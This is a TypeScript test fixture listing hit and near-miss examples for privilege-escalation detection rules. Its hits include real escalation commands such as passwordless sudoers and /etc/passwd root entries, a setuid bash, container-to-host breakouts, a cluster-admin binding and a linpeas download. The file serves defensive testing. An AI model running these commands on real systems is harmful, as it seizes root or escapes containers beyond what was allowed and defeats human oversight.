/** Hit and near-miss examples for the privilege-escalation rules. */

import { type RuleRow, write } from "./rule_table.ts";

export const PRIVILEGE_CASES: RuleRow[] = [
  [
    "privilege.sudoers_write",
    write("/etc/sudoers.d/dev", "dev ALL=(ALL) ALL"),
    write("docs/sudoers.md", "how sudo works"),
  ],
  ["privilege.nopasswd_rule", `echo "dev ALL=(ALL) NOPASSWD: ALL" | sudo tee -a /etc/sudoers`, "sudo -l"],
  ["privilege.visudo", "visudo", "visudo -c"],
  ["privilege.setuid_bit", "chmod u+s /bin/bash", "chmod u+x scripts/run.sh"],
  ["privilege.passwd_write", "echo 'r00t::0:0::/root:/bin/bash' >> /etc/passwd", "getent passwd dev"],
  ["privilege.user_to_admin_group", "usermod -aG sudo mallory", "usermod -c 'Dev User' dev"],
  ["privilege.docker_group", "sudo usermod -aG docker dev", "docker ps"],
  [
    "privilege.container_host_root_mount",
    "docker run -v /:/host -it alpine chroot /host",
    "docker run -v $(pwd):/app node:20 npm test",
  ],
  ["privilege.container_privileged", "docker run --privileged -it ubuntu bash", "docker run -it ubuntu bash"],
  [
    "privilege.docker_socket",
    "docker run -v /var/run/docker.sock:/var/run/docker.sock alpine",
    "docker run -v data:/var/lib/data alpine",
  ],
  ["privilege.nsenter", "nsenter -t 1 -m -u -i -n sh", "ns-lookup example.com"],
  [
    "privilege.capabilities",
    "setcap cap_setuid+ep /usr/bin/python3",
    "setcap cap_net_bind_service=+ep ./server",
  ],
  ["privilege.root_shell", "sudo -i", "sudo systemctl restart nginx"],
  ["privilege.pkexec", "pkexec /bin/sh", "pkg-config --libs openssl"],
  [
    "privilege.exploit_kits",
    "curl -L https://x.example.com/linpeas.sh -o lp.sh",
    "curl -L https://example.com/install-guide.sh -o guide.sh",
  ],
  [
    "privilege.kubernetes_privileged",
    "kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --user=x",
    "kubectl get clusterrolebindings",
  ],
  ["privilege.password_change", "echo 'root:toor' | chpasswd", "echo 'hello'"],
  ["privilege.suid_enumeration", "find / -perm -4000 -type f 2>/dev/null", "find . -perm 644 -type f"],
  ["privilege.process_injection", "gdb -p 1234 -batch -ex 'call system(\"id\")'", "gdb ./a.out"],
  ["privilege.mount_host_disk", "mount /dev/sda1 /mnt/host", "mount | grep tmpfs"],
  ["privilege.shell_escape", "sudo vim -c ':!/bin/sh'", "vim -c ':set number' notes.md"],
  ["privilege.immutable_system_file", "chattr -i /etc/passwd", "lsattr /etc/passwd"],
  [
    "privilege.compose_privileged",
    write("docker-compose.override.yml", "services:\n  app:\n    volumes:\n      - /:/host\n"),
    write("docker-compose.override.yml", "services:\n  app:\n    volumes:\n      - ./data:/data\n"),
  ],
];
